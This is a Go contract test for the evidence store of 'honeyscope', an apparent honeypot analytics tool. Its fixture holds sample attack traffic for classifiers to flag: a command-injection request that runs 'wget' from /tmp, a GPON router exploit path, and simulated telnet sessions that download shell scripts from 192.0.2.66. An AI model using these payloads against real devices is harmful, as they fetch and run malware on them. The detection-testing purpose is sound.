package contract

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"net/netip"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/aggregate"
	"github.com/honeyscope/honeyscope/internal/civil"
	"github.com/honeyscope/honeyscope/internal/classify"
	"github.com/honeyscope/honeyscope/internal/evidence"
	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
)

// The evidence contract (store.EvidenceTx, store.EvidenceStore), run
// against one store at a time: captures' evidence written through their
// Tx with known payloads and counts, honeypot sessions, and what every
// read and backfill must then say, worked out here from the same inputs.

// evPayload is one payload of the fixture: its whole bytes, and how many
// of them the evidence keeps (0: all).
type evPayload struct {
	whole []byte
	keep  int
}

func (p evPayload) part() evidence.Payload {
	data := p.whole
	if p.keep > 0 {
		data = p.whole[:p.keep]
	}
	return evidence.Payload{Hash: sha256.Sum256(p.whole), Len: len(p.whole), Data: bytes.Clone(data)}
}

// evCount is packets of a source to a port on a day carrying a payload.
type evCount struct {
	day     int // days after evStart
	src     string
	port    uint16
	payload int // index into evPayloads
	packets uint64
}

// evCapture is one capture of the fixture: its evidence and its sources
// rows (source → country and AS; a count's source without a row has none).
type evCapture struct {
	name, sensor string
	counts       []evCount
	dropped      uint64
	places       map[string]store.Place // "day/src"
	exploit      *evCount               // one exploit hit as classified by ingest (pattern evPatternIngest)
	noEvidence   bool
}

var evStart = civil.Of(time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))

var evPayloads = []evPayload{
	{whole: []byte("GET /shell?cd+/tmp;wget+http://192.0.2.66/m HTTP/1.1\r\n\r\n")},
	{whole: []byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n")},
	{whole: []byte("hello\r\n")},
	// Longer than kept: the classifier sees its first bytes only.
	{whole: append([]byte("LONG "), bytes.Repeat([]byte{'x'}, 5000)...), keep: 64},
	{whole: []byte("GET /shell?osaka HTTP/1.1\r\n\r\n")},
	// Only in an aborted capture.
	{whole: []byte("GET /shell?aborted HTTP/1.1\r\n\r\n")},
}

// Patterns the fixture's classifiers give.
const (
	evPatternShell  = "1:9000001:1"
	evPatternGpon   = "1:9000002:1"
	evPatternLong   = "1:9000003:1"
	evPatternWget   = "1:9000004:1"
	evPatternReq    = "1:9000005:1"
	evPatternIngest = "1:9000006:1"
)

func evClassify(p store.EvidencePayload) string {
	switch {
	case bytes.Contains(p.Data, []byte("/shell?")):
		return evPatternShell
	case bytes.Contains(p.Data, []byte("GponForm")):
		return evPatternGpon
	case bytes.HasPrefix(p.Data, []byte("LONG ")):
		return evPatternLong
	}
	return ""
}

func evClassifySession(s *session.Session) (cmds, reqs []string) {
	cmds = make([]string, len(s.Commands))
	for i, c := range s.Commands {
		if strings.Contains(c.Input, "wget") {
			cmds[i] = evPatternWget
		}
	}
	reqs = make([]string, len(s.Requests))
	for i, r := range s.Requests {
		if strings.Contains(r.Path, "/shell") {
			reqs[i] = evPatternReq
		}
	}
	return cmds, reqs
}

func evPlaces(kv ...any) map[string]store.Place {
	m := map[string]store.Place{}
	for i := 0; i < len(kv); i += 3 {
		m[kv[i].(string)] = store.Place{Country: kv[i+1].(string), ASN: kv[i+2].(uint32)}
	}
	return m
}

// evCaptures is the fixture: two sensors' captures sharing a payload, one
// with packets beyond its bounds and a source without a sources row.
func evCaptures() []evCapture {
	return []evCapture{
		{name: "tokyo-1.pcap", sensor: "tokyo", dropped: 3,
			counts: []evCount{
				{0, "198.51.100.1", 80, 0, 3}, {0, "198.51.100.1", 8080, 0, 2}, {0, "198.51.100.2", 80, 1, 1},
				{1, "198.51.100.1", 80, 2, 4}, {1, "198.51.100.1", 80, 0, 1}, {1, "2001:db8::5", 80, 3, 2},
			},
			places:  evPlaces("0/198.51.100.1", "CN", uint32(4134), "0/198.51.100.2", "US", uint32(7922), "1/198.51.100.1", "CN", uint32(4134)),
			exploit: &evCount{0, "198.51.100.2", 80, 1, 1}},
		{name: "osaka-1.pcap", sensor: "osaka",
			counts: []evCount{
				{1, "198.51.100.1", 80, 0, 5}, {2, "203.0.113.7", 23, 4, 6}, {2, "203.0.113.7", 80, 2, 1},
			},
			places: evPlaces("1/198.51.100.1", "CN", uint32(4134), "2/203.0.113.7", "JP", uint32(2497))},
	}
}

// evResult is a capture's rows: one access hit per count's source-day to
// its port, the exploit hit if any.
func evResult(c evCapture) (*aggregate.Result, []store.Place) {
	r := &aggregate.Result{}
	var places []store.Place
	at := map[string]uint32{}
	tags := classify.Tags(classify.Access.Bit())
	for _, n := range c.counts {
		k := fmt.Sprint(n.day, "/", n.src)
		pl, ok := c.places[k]
		if !ok {
			continue
		}
		i, seen := at[k]
		if !seen {
			i = uint32(len(r.Sources))
			at[k] = i
			ts := evStart.AddDays(n.day).Time().Add(time.Hour).UnixNano()
			r.Sources = append(r.Sources, aggregate.SourceDay{Addr: netip.MustParseAddr(n.src), Day: evStart.AddDays(n.day), First: ts, Last: ts, Tags: tags})
			places = append(places, pl)
		}
		r.Sources[i].Packets += n.packets
		r.Sources[i].Bytes += 100 * n.packets
		r.Hits = append(r.Hits, aggregate.Hit{Source: i, Proto: 6, Port: n.port, Tags: tags, Packets: n.packets})
		r.Inbound += n.packets
	}
	if e := c.exploit; e != nil {
		r.Exploits = append(r.Exploits, aggregate.ExploitHit{Source: at[fmt.Sprint(e.day, "/", e.src)], Proto: 6, Port: e.port, Pattern: 0, Packets: e.packets})
	}
	return r, places
}

// evPart is a capture's evidence part, its counts scaled by scale.
func evPart(c evCapture, scale uint64) *evidence.Part {
	p := &evidence.Part{MaxLen: 64, Dropped: c.dropped}
	idx := map[int]uint32{}
	for _, n := range c.counts {
		if _, ok := idx[n.payload]; !ok {
			idx[n.payload] = uint32(len(p.Payloads))
			p.Payloads = append(p.Payloads, evPayloads[n.payload].part())
		}
	}
	for _, n := range c.counts {
		p.Counts = append(p.Counts, evidence.Count{Day: evStart.AddDays(n.day), Src: netip.MustParseAddr(n.src), Proto: 6, Port: n.port,
			Payload: idx[n.payload], Packets: n.packets * scale})
		p.Kept += n.packets * scale
		if evPayloads[n.payload].keep > 0 {
			p.Truncated += n.packets * scale
		}
	}
	sort.Slice(p.Counts, func(i, j int) bool {
		a, b := p.Counts[i], p.Counts[j]
		if a.Day != b.Day {
			return a.Day < b.Day
		}
		return a.Src.Less(b.Src)
	})
	p.Packets = p.Kept + p.Dropped
	return p
}

// evWrite writes a capture (its evidence scaled) through one Tx; abort
// leaves it unfinished.
func evWrite(t *testing.T, st store.Store, c evCapture, scale uint64, replace, abort bool) {
	t.Helper()
	ctx := context.Background()
	tx, err := st.Begin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	r, places := evResult(c)
	if err := tx.Append(ctx, r, places, c.sensor, func(int) string { return evPatternIngest }); err != nil {
		t.Fatalf("%s: append: %v", c.name, err)
	}
	if !c.noEvidence {
		et, ok := tx.(store.EvidenceTx)
		if !ok {
			t.Fatalf("%T keeps no evidence", tx)
		}
		if err := et.AppendEvidence(ctx, evPart(c, scale), c.sensor); err != nil {
			t.Fatalf("%s: append evidence: %v", c.name, err)
		}
	}
	if abort {
		if err := tx.Abort(); err != nil {
			t.Fatal(err)
		}
		return
	}
	in := store.Ingest{Path: c.name, Hash: "sha256:" + c.name, Sensor: c.sensor, Format: "pcap", Packets: r.Inbound,
		First: evStart.Time(), Last: evStart.AddDays(3).Time()}
	if err := tx.Finish(ctx, in, replace, store.Sensor{Name: c.sensor}); err != nil {
		t.Fatalf("%s: finish: %v", c.name, err)
	}
}

// evSessions is the honeypot sessions of the fixture: on tokyo's second
// day from a source with a sources row, on osaka's third from one without,
// and a filtered one a backfill leaves out.
func evSessions() []session.Session {
	at := func(day int, h time.Duration) time.Time { return evStart.AddDays(day).Time().Add(h) }
	mk := func(id, sensor, src string, day int, filtered bool, cmds []string, paths []string) session.Session {
		s := session.Session{ID: id, Sensor: sensor, Service: session.Telnet, Port: 23, Src: netip.MustParseAddr(src), SrcPort: 41000,
			Dst: netip.MustParseAddr("192.0.2.1"), Start: at(day, 2*time.Hour), End: at(day, 3*time.Hour), Country: "KR", Filtered: filtered}
		for i, c := range cmds {
			s.Commands = append(s.Commands, session.Command{Time: at(day, 2*time.Hour+time.Duration(i+1)*time.Second), Input: c})
		}
		for i, p := range paths {
			s.Requests = append(s.Requests, session.Request{Time: at(day, 2*time.Hour+time.Duration(i+10)*time.Second), Method: "GET", Path: p, Version: "HTTP/1.1"})
		}
		return s
	}
	return []session.Session{
		mk("ev-s1", "tokyo", "198.51.100.1", 1, false, []string{"cd /tmp", "wget http://192.0.2.66/x.sh", "wget http://192.0.2.66/y.sh"}, []string{"/shell?x", "/index.html"}),
		mk("ev-s2", "osaka", "192.0.2.200", 2, false, []string{"wget http://192.0.2.66/z.sh"}, nil),
		mk("ev-s3", "tokyo", "198.51.100.9", 1, true, []string{"wget http://192.0.2.66/f.sh"}, nil),
	}
}

// evWant is what the store must answer, worked out from the fixture.
type evWant struct {
	days     []store.EvidenceDay
	counts   map[string]uint64 // under a backfilled set, by day, sensor, src, country, asn, port, pattern
	payloads int               // distinct payloads of the visible evidence
	matched  int
	packets  uint64
	dropped  uint64
}

// evExpect works out the answers over caps (each scaled) within q,
// sessions included.
func evExpect(caps []evCapture, scales []uint64, q store.EvidenceQuery) evWant {
	var w evWant
	type ds struct {
		day    civil.Day
		sensor string
	}
	pk := map[ds]uint64{}
	pays := map[ds]map[int]bool{}
	all, match := map[int]bool{}, map[int]bool{}
	w.counts = map[string]uint64{}
	in := func(day civil.Day, sensor string) bool {
		return (q.From == 0 || day >= q.From) && (q.To == 0 || day <= q.To) && (q.Sensor == "" || q.Sensor == sensor)
	}
	for ci, c := range caps {
		if c.noEvidence {
			continue
		}
		any := false
		for _, n := range c.counts {
			d := evStart.AddDays(n.day)
			if !in(d, c.sensor) {
				continue
			}
			any = true
			k := ds{d, c.sensor}
			pk[k] += n.packets * scales[ci]
			if pays[k] == nil {
				pays[k] = map[int]bool{}
			}
			pays[k][n.payload] = true
			all[n.payload] = true
			w.packets += n.packets * scales[ci]
			pat := evClassify(store.EvidencePayload{Data: evPayloads[n.payload].part().Data})
			if pat == "" {
				continue
			}
			match[n.payload] = true
			pl, ok := c.places[fmt.Sprint(n.day, "/", n.src)]
			if !ok {
				pl = store.Place{Country: "??"}
			}
			w.counts[fmt.Sprint(d, " ", c.sensor, " ", n.src, " ", pl.Country, " ", pl.ASN, " ", n.port, " tcp ", pat)] += n.packets * scales[ci]
		}
		if any {
			w.dropped += c.dropped
		}
	}
	for k, n := range pk {
		w.days = append(w.days, store.EvidenceDay{Day: k.day, Sensor: k.sensor, Packets: n, Payloads: len(pays[k])})
	}
	sort.Slice(w.days, func(i, j int) bool {
		a, b := w.days[i], w.days[j]
		return a.Day < b.Day || a.Day == b.Day && a.Sensor < b.Sensor
	})
	w.payloads, w.matched = len(all), len(match)
	for _, s := range evSessions() {
		d := civil.FromTime(s.Start, time.UTC)
		if s.Filtered || !in(d, s.Sensor) {
			continue
		}
		// The place of a sources row of the source that day, else the
		// session's country and AS 0.
		pl := store.Place{Country: s.Country}
		for _, c := range caps {
			if p, ok := c.places[fmt.Sprint(int(d-evStart), "/", s.Src)]; ok && c.sensor == s.Sensor {
				pl = p
			}
		}
		cmds, reqs := evClassifySession(&s)
		for _, p := range append(cmds, reqs...) {
			if p != "" {
				w.counts[fmt.Sprint(d, " ", s.Sensor, " ", s.Src, " ", pl.Country, " ", pl.ASN, " ", s.Port, " tcp ", p)]++
			}
		}
	}
	return w
}

// evStats is the exploit counts under rule set id, keyed as evWant.counts
// (stats adds the protocol after the port).
func evStats(t *testing.T, st store.Store, id int32, from, to string) map[string]uint64 {
	t.Helper()
	rows, err := st.Stats(context.Background(), store.StatsQuery{By: []string{"day", "sensor", "src", "country", "asn", "port", "pattern"},
		Classes: []string{"exploit"}, RuleSet: id, From: from, To: to, OrderBy: "key"})
	if err != nil {
		t.Fatalf("stats under rule set %d: %v", id, err)
	}
	out := map[string]uint64{}
	for _, r := range rows {
		k := make([]string, len(r.Keys))
		for i, x := range r.Keys {
			k[i] = fmt.Sprint(x)
		}
		out[strings.Join(k, " ")] += r.Packets
	}
	return out
}

func evSum(m map[string]uint64) (n uint64) {
	for _, v := range m {
		n += v
	}
	return n
}

// RunEvidence is the evidence contract of st, a fresh store in UTC: the
// evidence of committed captures is read back exactly (each payload once
// however many captures and days carry it, the packets per day, sensor,
// source and port, the bounds' drops), an aborted capture's is never
// read, a backfill classifies each distinct payload once and replaces
// what an earlier one of those days wrote, sessions count one per message,
// --force replaces a capture's evidence, and the runs of rule sets are
// listed per day and sensor.
func RunEvidence(t *testing.T, st store.Store) {
	t.Helper()
	ctx := context.Background()
	es, err := store.EvidenceOf(st)
	if err != nil {
		t.Fatal(err)
	}
	rss, err := store.RuleSetsOf(st)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := es.Backfill(ctx, store.BuiltinRuleSet, store.EvidenceQuery{}, store.Classifiers{Payload: evClassify}, nil); !errors.Is(err, store.ErrNoEvidence) {
		t.Fatalf("backfill of an empty store: %v, want ErrNoEvidence", err)
	}
	caps := evCaptures()
	scales := []uint64{1, 1}
	for _, c := range caps {
		evWrite(t, st, c, 1, false, false)
	}
	// An aborted capture of a payload of its own, and one without evidence.
	evWrite(t, st, evCapture{name: "aborted.pcap", sensor: "tokyo", counts: []evCount{{0, "198.51.100.3", 80, 5, 7}},
		places: evPlaces("0/198.51.100.3", "BR", uint32(28573))}, 1, false, true)
	bare := evCapture{name: "bare.pcap", sensor: "tokyo", noEvidence: true, counts: []evCount{{2, "198.51.100.4", 80, 0, 2}},
		places: evPlaces("2/198.51.100.4", "DE", uint32(3320))}
	evWrite(t, st, bare, 1, false, false)
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "ev-sessions", Sessions: evSessions()}); err != nil {
		t.Fatal(err)
	}

	for _, q := range []store.EvidenceQuery{{}, {From: evStart.AddDays(1)}, {To: evStart.AddDays(1), Sensor: "tokyo"}, {From: evStart.AddDays(5)}} {
		want := evExpect(caps, scales, q).days
		got, err := es.EvidenceDays(ctx, q)
		if err != nil || !reflect.DeepEqual(got, want) {
			t.Fatalf("EvidenceDays %+v:\n got %v (%v)\nwant %v", q, got, err, want)
		}
	}

	rs, err := rss.AddRuleSet(ctx, store.RuleSet{Name: "evidence-contract", Hash: "sha256:evidence-contract",
		Files: []store.RuleFile{{Name: "c.rules", Text: "# classified by the test's functions\n"}}})
	if err != nil {
		t.Fatal(err)
	}
	handed := map[string]int{}
	classifiers := store.Classifiers{
		Payload: func(p store.EvidencePayload) string {
			handed[string(p.Hash)]++
			for _, q := range evPayloads {
				e := q.part()
				if bytes.Equal(p.Hash, e.Hash[:]) && (p.Len != e.Len || !bytes.Equal(p.Data, e.Data)) {
					t.Errorf("payload %x handed as %d bytes of %d (%q), stored %d of %d", p.Hash[:4], len(p.Data), p.Len, p.Data[:min(8, len(p.Data))], len(e.Data), e.Len)
				}
			}
			return evClassify(p)
		},
		Session: evClassifySession,
	}
	want := evExpect(caps, scales, store.EvidenceQuery{})
	for round := 0; round < 2; round++ {
		clear(handed)
		var last [2]int
		res, err := es.Backfill(ctx, rs.ID, store.EvidenceQuery{}, classifiers, func(done, total int) { last = [2]int{done, total} })
		if err != nil {
			t.Fatal(err)
		}
		if len(handed) != want.payloads || last != [2]int{want.payloads, want.payloads} {
			t.Errorf("backfill %d: %d payloads handed (progress %v), want %d", round+1, len(handed), last, want.payloads)
		}
		for h, n := range handed {
			if n != 1 {
				t.Errorf("backfill %d: payload %x handed %d times", round+1, h[:4], n)
			}
		}
		if h := sha256.Sum256(evPayloads[5].whole); handed[string(h[:])] != 0 {
			t.Errorf("backfill %d: the aborted capture's payload was handed", round+1)
		}
		got := evStats(t, st, rs.ID, "", "")
		if len(want.counts) == 0 || !reflect.DeepEqual(got, want.counts) {
			t.Fatalf("backfill %d: counts under the set:\n got %v\nwant %v", round+1, got, want.counts)
		}
		wantRes := store.BackfillResult{Days: 4, Payloads: want.payloads, Matched: want.matched, Packets: want.packets,
			Exploits: evSum(want.counts), Rows: int64(len(want.counts)), Sessions: 2, Messages: 6, SessionHits: 4,
			Dropped: want.dropped, Uncovered: 1}
		if res != wantRes {
			t.Errorf("backfill %d: result\n %+v\nwant\n %+v", round+1, res, wantRes)
		}
	}

	// A backfill of one sensor-day replaces that day's counts alone.
	one := store.EvidenceQuery{From: evStart.AddDays(1), To: evStart.AddDays(1), Sensor: "tokyo"}
	res, err := es.Backfill(ctx, rs.ID, one, store.Classifiers{Payload: func(store.EvidencePayload) string { return "" }}, nil)
	if err != nil || res.Days != 1 || res.Exploits != 0 || res.Payloads != 3 || res.Sessions != 0 {
		t.Fatalf("backfill of one sensor-day without session rules: %+v %v", res, err)
	}
	rest := map[string]uint64{}
	for k, n := range want.counts {
		if !strings.HasPrefix(k, evStart.AddDays(1).String()+" tokyo ") {
			rest[k] = n
		}
	}
	if got := evStats(t, st, rs.ID, "", ""); !reflect.DeepEqual(got, rest) {
		t.Fatalf("after a backfill of one sensor-day matching nothing:\n got %v\nwant %v", got, rest)
	}

	// Under the built-in rules the ingest's own exploit rows count until a
	// backfill covers their day.
	day0 := evStart.String()
	if got := evStats(t, st, store.BuiltinRuleSet, day0, day0); !reflect.DeepEqual(got, map[string]uint64{
		fmt.Sprint(day0, " tokyo 198.51.100.2 US 7922 80 tcp ", evPatternIngest): 1}) {
		t.Fatalf("under the built-in rules as ingested: %v", got)
	}
	if _, err := es.Backfill(ctx, store.BuiltinRuleSet, store.EvidenceQuery{From: evStart, To: evStart}, classifiers, nil); err != nil {
		t.Fatal(err)
	}
	if got, w := evStats(t, st, store.BuiltinRuleSet, day0, day0), evExpect(caps, scales, store.EvidenceQuery{From: evStart, To: evStart}).counts; !reflect.DeepEqual(got, w) {
		t.Fatalf("under the built-in rules backfilled on the first day:\n got %v\nwant %v", got, w)
	}
	if _, err := st.Stats(ctx, store.StatsQuery{RuleSet: rs.ID, Classes: []string{"mirai"}}); err == nil {
		t.Error("stats of class mirai under a rule set: no error")
	}

	runs, err := es.RuleSetRuns(ctx, store.EvidenceQuery{})
	if err != nil {
		t.Fatal(err)
	}
	var gotRuns []string
	for _, r := range runs {
		if r.At.IsZero() {
			t.Errorf("rule set run %+v: no time", r)
		}
		gotRuns = append(gotRuns, fmt.Sprintf("%s %s %d %v", r.Day, r.Sensor, r.RuleSet, r.Backfill))
	}
	b, x := store.BuiltinRuleSet, rs.ID
	d := func(i int) civil.Day { return evStart.AddDays(i) }
	wantRuns := []string{
		fmt.Sprintf("%s tokyo %d false", d(0), b), fmt.Sprintf("%s tokyo %d true", d(0), b), fmt.Sprintf("%s tokyo %d true", d(0), x),
		fmt.Sprintf("%s osaka %d false", d(1), b), fmt.Sprintf("%s osaka %d true", d(1), x),
		fmt.Sprintf("%s tokyo %d false", d(1), b), fmt.Sprintf("%s tokyo %d true", d(1), x),
		fmt.Sprintf("%s osaka %d false", d(2), b), fmt.Sprintf("%s osaka %d true", d(2), x),
		fmt.Sprintf("%s tokyo %d false", d(2), b),
	}
	if !reflect.DeepEqual(gotRuns, wantRuns) {
		t.Errorf("rule set runs:\n got %v\nwant %v", gotRuns, wantRuns)
	}

	// --force: the capture's evidence is replaced, not added to.
	evWrite(t, st, caps[1], 2, true, false)
	scales[1] = 2
	if got, w := mustDays(t, es), evExpect(caps, scales, store.EvidenceQuery{}).days; !reflect.DeepEqual(got, w) {
		t.Fatalf("EvidenceDays after a --force re-ingest:\n got %v\nwant %v", got, w)
	}
	if _, err := es.Backfill(ctx, rs.ID, store.EvidenceQuery{}, classifiers, nil); err != nil {
		t.Fatal(err)
	}
	if got, w := evStats(t, st, rs.ID, "", ""), evExpect(caps, scales, store.EvidenceQuery{}).counts; !reflect.DeepEqual(got, w) {
		t.Fatalf("backfill after a --force re-ingest:\n got %v\nwant %v", got, w)
	}

	// --force without evidence: a backfill then finds none on osaka's days
	// (its sessions aside), and what earlier ones wrote there goes.
	caps[1].noEvidence = true
	evWrite(t, st, caps[1], 1, true, false)
	if _, err := es.Backfill(ctx, rs.ID, store.EvidenceQuery{}, classifiers, nil); err != nil {
		t.Fatal(err)
	}
	if got, w := evStats(t, st, rs.ID, "", ""), evExpect(caps, scales, store.EvidenceQuery{}).counts; !reflect.DeepEqual(got, w) {
		t.Fatalf("backfill after a --force re-ingest without evidence:\n got %v\nwant %v", got, w)
	}
	runs, err = es.RuleSetRuns(ctx, store.EvidenceQuery{Sensor: "osaka"})
	if err != nil {
		t.Fatal(err)
	}
	gotRuns = nil
	for _, r := range runs {
		gotRuns = append(gotRuns, fmt.Sprintf("%s %s %d %v", r.Day, r.Sensor, r.RuleSet, r.Backfill))
	}
	wantRuns = []string{fmt.Sprintf("%s osaka %d false", d(1), b), fmt.Sprintf("%s osaka %d false", d(2), b), fmt.Sprintf("%s osaka %d true", d(2), x)}
	if !reflect.DeepEqual(gotRuns, wantRuns) {
		t.Errorf("rule set runs of osaka after its evidence went:\n got %v\nwant %v", gotRuns, wantRuns)
	}
}

func mustDays(t *testing.T, es store.EvidenceStore) []store.EvidenceDay {
	t.Helper()
	d, err := es.EvidenceDays(context.Background(), store.EvidenceQuery{})
	if err != nil {
		t.Fatal(err)
	}
	return d
}
